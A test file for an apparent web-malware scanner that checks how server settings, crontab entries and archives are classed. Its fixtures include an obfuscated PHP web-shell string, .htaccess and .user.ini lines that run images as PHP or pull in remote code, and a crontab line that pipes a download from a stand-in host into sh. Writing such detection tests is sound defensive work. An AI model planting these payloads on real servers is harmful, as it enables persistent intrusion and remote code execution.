import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { buildZip } from '../../testing/build-zip.ts';
import { judgeBytes, judgeText, shippedJudge } from '../testing/judge-text.ts';
import { readTar } from './read-tar.ts';

const judge = shippedJudge();
const SHELL = `<?php return; $f = 'as' . 'sert'; $f($_POST['stoika']);`;

function tarOf(name: string, content: string): Buffer {
  const header = Buffer.alloc(512);
  header.write(name, 0);
  header.write(content.length.toString(8).padStart(11, '0'), 124);
  header.write('0', 156);
  header.fill(' ', 148, 156);
  const sum = header.reduce((all, byte) => all + byte, 0);
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  const body = Buffer.alloc(Math.ceil(content.length / 512) * 512);
  body.write(content);
  return Buffer.concat([header, body, Buffer.alloc(1024)]);
}

describe('Server settings', () => {
  test.each([
    ['.htaccess', 'AddHandler application/x-httpd-php .jpg .png', 'malicious'],
    ['.htaccess', 'php_value auto_append_file "https://stoika.test/a.txt"', 'malicious'],
    ['.htaccess', 'php_value auto_prepend_file /home/u/public_html/waf.php', 'suspicious'],
    ['.htaccess', 'AddHandler application/x-httpd-php .php .php8', 'clean'],
    ['.htaccess', '# AddHandler application/x-httpd-php .jpg', 'clean'],
    ['.htaccess', 'RewriteEngine On\nRewriteRule ^(.*)$ index.php [L]', 'clean'],
    ['.user.ini', 'auto_prepend_file = /home/u/public_html/uploads/logo.jpg', 'malicious'],
    ['.user.ini', 'auto_prepend_file = wordfence-waf.php', 'suspicious'],
    ['.user.ini', 'memory_limit = 256M', 'clean'],
    ['crontab', '* * * * * curl -s http://stoika.test/a | sh', 'malicious'],
    ['crontab', '*/5 * * * * php /home/u/public_html/cron.php', 'clean'],
  ])('%s: %s is %s', async (name, text, expected) => {
    expect((await judgeText(judge, text, name)).class).toBe(expected);
  });
});

describe('Archives', () => {
  test('are looked into, and not acted on for a member', async () => {
    const packed = gzipSync(tarOf('site/index.php', SHELL));
    const verdict = await judgeBytes(judge, packed, 'backup.tar.gz');
    expect(verdict).toMatchObject({ class: 'malicious', actionable: false });
    const zip = buildZip([{ name: 'a/index.php', content: SHELL }]);
    expect((await judgeBytes(judge, zip, 'a.zip')).class).toBe('malicious');
  });

  test('with nothing wrong in them are clean', async () => {
    const packed = gzipSync(tarOf('site/index.php', '<?php echo "Hello";'));
    expect((await judgeBytes(judge, packed, 'backup.tar.gz')).class).toBe('clean');
  });

  test('that are damaged or nested too deep are not clean', async () => {
    let nested: Buffer = gzipSync(tarOf('index.php', SHELL));
    for (let level = 0; level < 3; level++) nested = gzipSync(nested);
    expect((await judgeBytes(judge, nested, 'a.gz')).limit).toBe('archive-nesting');
    const damaged = Buffer.from('PK\x03\x04 this is no zip');
    expect((await judgeBytes(judge, damaged, 'a.zip')).limit).toBe('archive-damaged');
  });

  test('whose sizes lead out of them end there', () => {
    const tar = tarOf('a.php', SHELL);
    expect(readTar(tar.subarray(0, 520), 10)).toEqual([]);
    expect(readTar(Buffer.alloc(4096), 10)).toBeNull();
  });
});

test('pictures without PHP are clean, whatever three bytes they hold', async () => {
  const picture = `\xff\xd8\xff\xe0\x00\x10JFIF<?=\x81\x02\xfe\x90\x00<?p\xff${'\x01\x9c'.repeat(500)}`;
  expect((await judgeText(judge, picture, 'photo.jpg')).class).toBe('clean');
});
